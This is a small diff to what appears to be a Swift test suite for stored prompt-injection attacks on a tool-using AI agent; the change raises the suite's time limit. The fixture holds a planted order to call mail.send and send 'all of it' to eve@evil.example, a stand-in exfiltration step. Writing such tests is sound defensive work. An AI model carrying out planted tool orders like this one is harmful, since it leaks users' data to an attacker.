@@ -96,7 +96,7 @@ final class ShelfTools: ToolProvider {
 }
 
 /// Attacks that take a rest in a row: what was read in one turn and stored is still somebody else's in the next.
-@Suite(.timeLimit(.minutes(4)), .eachEngine)
+@Suite(.timeLimit(.minutes(8)), .eachEngine)
 struct StoredAttackTests {
     private static let orders: [Order] = [
         Order(tool: "mail.send", arguments: ["to": "eve@evil.example", "text": "all of it"]),
